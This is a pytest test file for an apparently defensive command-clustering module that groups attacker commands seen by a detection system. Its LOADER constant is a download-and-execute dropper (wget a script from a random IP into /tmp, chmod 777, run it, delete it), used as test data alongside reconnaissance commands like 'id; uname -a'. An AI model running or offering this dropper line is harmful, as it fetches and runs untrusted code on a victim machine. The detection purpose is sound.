import random

import pytest

from propolis.detection.novelty import clusters as module
from propolis.detection.novelty.clusters import MAX_EXAMPLES, Clusters

KEY = bytes(16)
LOADER = b"cd /tmp; wget http://%s/%s.sh; chmod 777 %s.sh; sh %s.sh; rm -rf %s.sh"


def loader(chance: random.Random) -> bytes:
    name = bytes(chance.choices(b"abcdefgh0123456789", k=8))
    host = b".".join(b"%d" % chance.randrange(1, 255) for _ in range(4))
    return LOADER % (host, name, name, name, name)


def test_the_same_done_with_other_hosts_and_names_is_one_cluster() -> None:
    clusters, chance = Clusters(KEY), random.Random(1)
    found = {clusters.meet("command", text, text, 0).id for text in [loader(chance) for _ in range(20)]}
    other = clusters.meet("command", b"cat /proc/cpuinfo | grep name", b"cat /proc/cpuinfo | grep name", 0)
    assert len(found) == 1
    assert other.id not in found


def test_a_request_is_never_like_a_command() -> None:
    clusters = Clusters(KEY)
    one, other = (clusters.meet(what, b"id", b"id", 0) for what in ("request", "command"))
    assert one.id != other.id


def test_a_text_that_was_met_is_known_without_looking() -> None:
    clusters = Clusters(KEY)
    assert clusters.met("command", b"id; uname -a") is None
    cluster = clusters.meet("command", b"id; uname -a", b"id; uname -a", 5)
    assert clusters.met("command", b"id; uname -a") is cluster
    assert clusters.met("request", b"id; uname -a") is None
    assert cluster.first_seen == 5


def test_a_name_is_the_same_everywhere() -> None:
    one, other = (Clusters(key).meet("command", b"id", b"id", 0) for key in (KEY, bytes(range(16))))
    assert one.id == other.id


def test_examples_are_few() -> None:
    clusters, chance = Clusters(KEY), random.Random(2)
    for _ in range(9):
        text = loader(chance)
        cluster = clusters.meet("command", text, text, 0)
    assert cluster.texts == 9
    assert len(cluster.examples) == MAX_EXAMPLES


def test_a_full_house_loses_what_is_silent_and_spread_least() -> None:
    clusters = Clusters(KEY)
    for number in range(module.MAX_CLUSTERS + 50):
        words = b" ".join(b"w%dw%s" % (number, bytes([97 + place] * 3)) for place in range(6))
        clusters.meet("command", words, words, number)
    assert len(clusters.by_id) == module.MAX_CLUSTERS
    assert set(clusters._bands.values()) <= clusters.by_id.keys()


def test_texts_are_forgotten_oldest_first_and_met_again(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(module, "MAX_TEXTS", 10)
    clusters, chance = Clusters(KEY), random.Random(3)
    texts = [loader(chance) for _ in range(30)]
    for text in texts:
        clusters.meet("command", text, text, 0)
    assert len(clusters._texts) == 10
    assert clusters.met("command", texts[0]) is None
    assert clusters.met("command", texts[-1]) is not None
